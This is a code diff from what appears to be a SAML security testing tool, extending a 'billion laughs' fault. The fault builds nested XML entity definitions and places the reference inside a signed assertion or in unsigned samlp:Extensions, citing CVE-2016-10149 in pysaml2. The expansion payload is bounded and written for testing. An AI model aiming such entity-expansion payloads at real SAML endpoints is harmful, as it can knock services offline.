@@ -6,7 +6,7 @@ from typing import Callable
 
 from lxml import etree
 
-from ..builder import DS, SAML, q
+from ..builder import DS, SAML, SAMLP, q
 from . import Fault, FaultContext, register, register_factory
 from ._common import _asig, _assertion, _assertion_signed, _doctype, _iter_tag, _sig
 
@@ -115,22 +115,40 @@ def _reference_probe(xml: bytes, value: str, ref: bytes) -> bytes:
 
 
 @register_factory("dtd-billion-laughs", "Nested internal entities (10 per level, bounded: default 10^4 x 'lol') in a "
-                  "probe AttributeValue; the signatures cover the expanded text",
-                  ("XML-05", "CVE-2016-10149"), levels=4)
-def _laughs(levels: int) -> Fault:
+                  "probe AttributeValue, the signatures covering the expanded text (where=assertion); or (where="
+                  "extensions) in an attribute of an element in samlp:Extensions, outside the untouched signed "
+                  "Assertion: no signature covers it, so only the parser's entity handling decides (CVE-2016-10149: "
+                  "pysaml2 < 4.5.0 expands it before any signature check)",
+                  ("XML-05", "CVE-2016-10149"), levels=4, where="assertion")
+def _laughs(levels: int, where: str) -> Fault:
     n = int(levels)
     if not 1 <= n <= 6:
         raise ValueError("levels must be 1..6 (bounded: 10^6 x 3 bytes at most)")
+    if where not in ("assertion", "extensions"):
+        raise ValueError("where must be 'assertion' or 'extensions'")
     value = "lol" * 10 ** n
 
     def b(xml: bytes, ctx: FaultContext) -> bytes:
         ents = ['<!ENTITY lol0 "lol">'] + [
             f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, n + 1)
         ]
-        xml = _reference_probe(xml, value, f"&lol{n};".encode())
+        if where == "assertion":
+            xml = _reference_probe(xml, value, f"&lol{n};".encode())
+        else:  # in an attribute: a libxml2 that keeps entity references can still canonicalize around it
+            needle = f'v="{value}"'.encode()
+            if needle not in xml:
+                raise ValueError("the entity probe element was not found in samlp:Extensions")
+            xml = xml.replace(needle, f'v="&lol{n};"'.encode(), 1)
         return _doctype(xml, ("<!DOCTYPE samlp:Response [" + "".join(ents) + "]>").encode())
 
-    return Fault("", "", tree=_probe_attribute(value), bytes_=b)
+    def extensions(root: etree._Element, ctx: FaultContext) -> None:
+        """Before signing (a signed Response covers the expanded text too): the probe element, right
+        after the Response's Issuer."""
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        etree.SubElement(ext, f"{{{PROBE_ATTR}}}Laughs", nsmap={"p": PROBE_ATTR}, v=value)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+
+    return Fault("", "", tree=_probe_attribute(value) if where == "assertion" else extensions, bytes_=b)
 
 
 def _canary_file(ctx: FaultContext, content: str) -> str:
